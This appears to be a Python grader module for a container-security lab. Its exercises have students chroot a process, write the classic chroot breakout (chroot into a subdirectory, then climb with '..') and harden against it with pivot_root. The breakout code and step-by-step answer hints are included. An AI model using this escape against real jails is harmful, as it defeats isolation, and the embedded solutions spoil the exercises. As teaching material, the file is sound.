"""Notebook 01's exercises: a process chrooted by hand, the breakout written
by the student, and pivot_root done so that the breakout has nowhere to go.
Each check asks the kernel: /proc/PID/root, /proc/PID/ns/mnt and the
process's own mount table (/proc/PID/mountinfo)."""

import json
import os
import subprocess
import sys
import tempfile

from . import Exercise, background, env, kill_line, own_namespace, started
from .. import mountinfo
from ..i18n import _

BREAKOUT = "/tmp/lab01/breakout.py"
PIVOT = "/tmp/lab01/pivot.sh"


def _rootfs():
    return env()["ROOTFS"]


def _same_file(a, b):
    sa, sb = os.stat(a), os.stat(b)
    return (sa.st_dev, sa.st_ino) == (sb.st_dev, sb.st_ino)


def _chrooted():
    pid, why = started("sleep", "1011")
    if pid is None:
        return False, why
    if own_namespace(pid, "mnt"):
        return False, _("sleep 1011 is in a mount namespace of its own: this one is a chroot alone "
                        "(chroot(8), no unshare)")
    if _same_file(f"/proc/{pid}/root", "/"):
        return False, _("the root of sleep 1011 is the host's / (ls -l /proc/PID/root): it was not chrooted")
    if not _same_file(f"/proc/{pid}/root", _rootfs()):
        return False, _("sleep 1011 is chrooted, but not into {rootfs} (ls -l /proc/{pid}/root)",
                        rootfs=_rootfs(), pid=pid)
    return True, _("/proc/{pid}/root is {rootfs}, and its mount and PID namespaces are the host's", pid=pid,
                   rootfs=_rootfs())


# Run in a fresh interpreter: chroot into an empty directory, run the
# student's code there, then compare the process's / with the host's.
_JAIL = r"""
import json, os, sys
jail, code = sys.argv[1], open(sys.argv[2]).read()
host = os.stat("/")
os.chroot(jail); os.chdir("/")
inside = os.stat("/")
result = {}
try:
    exec(compile(code, sys.argv[2], "exec"), {"__name__": "__main__"})
except BaseException as e:
    result["error"] = f"{type(e).__name__}: {e}"
now = os.stat("/")
result["escaped"] = (now.st_dev, now.st_ino) == (host.st_dev, host.st_ino) != (inside.st_dev, inside.st_ino)
print(json.dumps(result))
"""


def _breakout():
    if not os.path.exists(BREAKOUT):
        return False, _("there is no {breakout}", breakout=BREAKOUT)
    jail = tempfile.mkdtemp(prefix="lab01-jail-")
    try:
        r = subprocess.run([sys.executable, "-c", _JAIL, jail, BREAKOUT], capture_output=True,
                           text=True, timeout=30)
        try:
            result = json.loads(r.stdout.strip().splitlines()[-1])
        except (IndexError, ValueError):
            return False, _("{breakout} did not let the check finish: {error}", breakout=BREAKOUT,
                            error=(r.stderr.strip().splitlines() or ['?'])[-1])
    finally:
        subprocess.run(["rm", "-rf", "--one-file-system", jail])
    if result.get("error"):
        return False, _("run inside a chroot, {breakout} raised {error}", breakout=BREAKOUT, error=result["error"])
    if not result["escaped"]:
        return False, _("run as root inside a chroot, {breakout} ends with / still the chroot's", breakout=BREAKOUT)
    return True, _("run as root inside a chroot, {breakout} ends with / being the host's /", breakout=BREAKOUT)


def _host_root_mounts(pid):
    """Mounts in process ``pid``'s namespace that show the host's root
    filesystem from its top: through any of them the host is one chroot away."""
    host = next(m for m in mountinfo.parse(open("/proc/self/mountinfo").read()) if m.mount_point == "/")
    mine = mountinfo.parse(open(f"/proc/{pid}/mountinfo").read())
    return [m.mount_point for m in mine if m.dev == host.dev and m.root == "/"]


def _pivoted():
    pid, why = started("sleep", "1012")
    if pid is None:
        return False, _("{why} (start it with sh {pivot} \"$ROOTFS\" sleep 1012)", why=why, pivot=PIVOT)
    if not own_namespace(pid, "mnt"):
        return False, _("sleep 1012 is in the host's mount namespace: pivot_root needs one of its own "
                        "(unshare --mount)")
    left = _host_root_mounts(pid)
    if left:
        return False, _("the host's / is still mounted in its namespace at {mount}: `chroot {mount}` "
                        "gets out (detach the old root after pivot_root: umount -l)", mount=left[0])
    if not _same_file(f"/proc/{pid}/root", _rootfs()):
        return False, _("the root of sleep 1012 is not {rootfs} (ls -l /proc/{pid}/root)",
                        rootfs=_rootfs(), pid=pid)
    return True, _("sleep 1012 runs on the rootfs, and no mount of the host's / is left in its namespace")


PIVOT_SCRIPT = r"""mkdir -p /tmp/lab01 && cat > /tmp/lab01/pivot.sh <<'EOF'
#!/bin/sh
# pivot.sh ROOTFS CMD...: run CMD with ROOTFS as the root of a new mount namespace
set -e
exec unshare --mount sh -ec '
  mount --make-rprivate /          # nothing we do here propagates to the host
  mount --bind "$1" "$1"           # pivot_root wants a mount point
  cd "$1"; shift
  pivot_root . .                   # the old root is now stacked on the new one
  busybox umount -l .              # detach it (util-linux umount needs /proc)
  exec chroot . "$@"' sh "$@"
EOF"""

BREAKOUT_SCRIPT = r"""mkdir -p /tmp/lab01 && cat > /tmp/lab01/breakout.py <<'EOF'
import os
os.makedirs("x", exist_ok=True)
os.chroot("x")            # the new root is below the working directory...
for _ in range(64):
    os.chdir("..")        # ...so nothing stops ".." on the way up
os.chroot(".")            # the host's / is the root again
EOF"""

EXERCISES = [
    Exercise("01.chroot", "a chroot, and nothing more",
             "Start `sleep 1011` chrooted into the base rootfs ($ROOTFS), in the background, with no "
             "namespace of its own.",
             ["chroot(8): `chroot NEWROOT COMMAND` runs COMMAND with NEWROOT as its /",
              "`setsid -f CMD >/dev/null 2>&1` starts CMD in the background, detached from this shell",
              "sudo setsid -f chroot $ROOTFS sleep 1011 >/dev/null 2>&1"],
             _chrooted,
             background("chroot $ROOTFS sleep 1011", "sleep", "1011"),
             [kill_line("sleep", "1011")]),
    Exercise("01.breakout", "the breakout, typed by hand",
             f"Write {BREAKOUT}: Python that, run as root inside a chroot, ends with its / being the host's "
             "/ (the check runs it in a chroot of its own).",
             ["chroot(2), NOTES: chroot does not change the working directory, and `..` is stopped only "
              "at the root of a process whose working directory is inside it",
              "os.chroot into a new subdirectory without os.chdir into it; then os.chdir('..') many times; "
              "then os.chroot('.')",
              "os.makedirs('x', exist_ok=True); os.chroot('x'); then 64 × os.chdir('..'); os.chroot('.')"],
             _breakout,
             [BREAKOUT_SCRIPT],
             ["rm -f /tmp/lab01/breakout.py; rmdir /tmp/lab01 2>/dev/null || true"]),
    Exercise("01.pivot", "pivot_root, so that the breakout stays inside",
             f"Write {PIVOT} ROOTFS CMD…: it runs CMD with ROOTFS as the root of a new mount namespace, by "
             "pivot_root, with no mount of the host's / left in that namespace. Then start "
             f"`sh {PIVOT} $ROOTFS sleep 1012` in the background.",
             ["pivot_root(2) and pivot_root(8): the new root must be a mount point; `pivot_root . .` stacks "
              "the old root on top of the new one",
              "unshare --mount; mount --make-rprivate /; mount --bind R R; cd R; pivot_root . .; then detach "
              "the old root with umount -l (busybox's: util-linux's needs /proc)",
              "the script's one command: exec unshare --mount sh -ec 'mount --make-rprivate /; "
              "mount --bind \"$1\" \"$1\"; cd \"$1\"; shift; pivot_root . .; busybox umount -l .; "
              f"exec chroot . \"$@\"' sh \"$@\"; then: sudo setsid -f sh {PIVOT} $ROOTFS sleep 1012 >/dev/null 2>&1"],
             _pivoted,
             [PIVOT_SCRIPT] + background(f"sh {PIVOT} $ROOTFS sleep 1012", "sleep", "1012"),
             [kill_line("sleep", "1012"), "rm -f /tmp/lab01/pivot.sh; rmdir /tmp/lab01 2>/dev/null || true"]),
]
